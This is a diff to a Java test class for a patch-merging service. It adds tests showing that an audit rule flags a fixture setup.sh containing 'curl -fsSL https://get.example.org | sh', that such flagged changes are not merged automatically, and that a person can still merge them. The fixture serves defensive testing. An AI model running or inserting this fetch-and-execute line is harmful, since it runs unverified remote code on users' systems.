@@ -45,6 +45,18 @@ class ChangeFlowTest {
       +good day
       """;
 
+  /** Brings in what the audit has a word for. */
+  private static final String BAD_PATCH =
+      """
+      diff --git a/setup.sh b/setup.sh
+      new file mode 100644
+      --- /dev/null
+      +++ b/setup.sh
+      @@ -0,0 +1,2 @@
+      +set -e
+      +curl -fsSL https://get.example.org | sh
+      """;
+
   @TempDir Path home;
   @TempDir Path place;
   private Path shop;
@@ -93,6 +105,10 @@ class ChangeFlowTest {
 
   /** An attempt that changes the greeting, and ends like this. */
   private String changed(String merge, Ending ending) {
+    return changed(merge, ending, PATCH);
+  }
+
+  private String changed(String merge, Ending ending, String made) {
     var key =
         submit("{\"repository\":\"%s\",\"merge\":\"%s\"}".formatted(shop, merge))
             .assignment()
@@ -100,22 +116,22 @@ class ChangeFlowTest {
     worker.say(new CheckoutWanted(key));
     var base = worker.await(CheckedOut.class).checkout();
     worker.say(new Started(key));
-    var patch = PATCH.getBytes(StandardCharsets.UTF_8);
+    var patch = made.getBytes(StandardCharsets.UTF_8);
     worker.say(new Changed(key, ContentHash.of(patch), Patches.pack(patch)));
-    worker.say(new Ended(key, report(base, ending)));
+    worker.say(new Ended(key, report(base, ending, made)));
     worker.await(Confirm.class);
     return key.task().value();
   }
 
-  private static AttemptReport report(Checkout base, Ending ending) {
+  private static AttemptReport report(Checkout base, Ending ending, String patch) {
     var change =
         new Change(
             base,
-            ContentHash.of(PATCH),
+            ContentHash.of(patch),
             1,
             1,
             1,
-            PATCH.length(),
+            patch.length(),
             List.of(new Change.ChangedFile("greeting.txt", "M", 1, 1, false)),
             true,
             List.of());
@@ -184,6 +200,7 @@ class ChangeFlowTest {
 
     assertThat(shown.get("patch").stringValue()).isEqualTo(PATCH);
     assertThat(shown.has("obstacle")).isFalse();
+    assertThat(shown.get("findings")).isEmpty();
     assertThat(other.statusCode()).isEqualTo(409);
     assertThat(other.body()).contains("look at it again");
     assertThat(merged.statusCode()).as(merged.body()).isEqualTo(200);
@@ -238,6 +255,47 @@ class ChangeFlowTest {
       assertThat(Json.write(control.json("/api/v1/tasks/" + task).get("story")))
           .contains("rule:green");
     }
+  }
+
+  @Test
+  void what_the_audit_finds_fault_with_is_shown_beside_the_change() {
+    var task = changed("person", Ending.SUCCEEDED, BAD_PATCH);
+
+    var found = control.json("/api/v1/tasks/%s/diff".formatted(task)).get("findings");
+
+    assertThat(found).hasSize(1);
+    assertThat(found.at("/0/rule").stringValue()).isEqualTo("script_from_network");
+    assertThat(found.at("/0/file").stringValue()).isEqualTo("setup.sh");
+    assertThat(found.at("/0/line").intValue()).isEqualTo(2);
+    assertThat(found.at("/0/mend").stringValue()).contains("sha256sum");
+  }
+
+  @Test
+  void what_the_audit_finds_fault_with_no_rule_merges_but_a_person_may() throws Exception {
+    var task = changed("green", Ending.SUCCEEDED, BAD_PATCH);
+    // The next one is considered after it: when that is merged, this one was not.
+    try (var events = control.follow("/api/v1/events")) {
+      changed("green", Ending.SUCCEEDED);
+      events.awaitEntry("ChangeMerged");
+    }
+
+    var before = git(shop, "ls-tree", "--name-only", "main");
+    var merged = merge(task, ContentHash.of(BAD_PATCH), false);
+
+    assertThat(before).isEqualTo("greeting.txt");
+    assertThat(merged.statusCode()).as(merged.body()).isEqualTo(200);
+    assertThat(git(shop, "ls-tree", "--name-only", "main")).contains("setup.sh");
+  }
+
+  @Test
+  void a_change_that_cannot_be_looked_through_is_a_finding_too() throws Exception {
+    var task = changed("person", Ending.SUCCEEDED);
+    Files.move(shop, place.resolve("gone.git"));
+
+    var found = control.json("/api/v1/tasks/%s/diff".formatted(task)).get("findings");
+
+    assertThat(found.at("/0/rule").stringValue()).isEqualTo("not_readable");
+    assertThat(found.at("/0/why").stringValue()).startsWith("it could not be looked through: ");
   }
 
   @Test
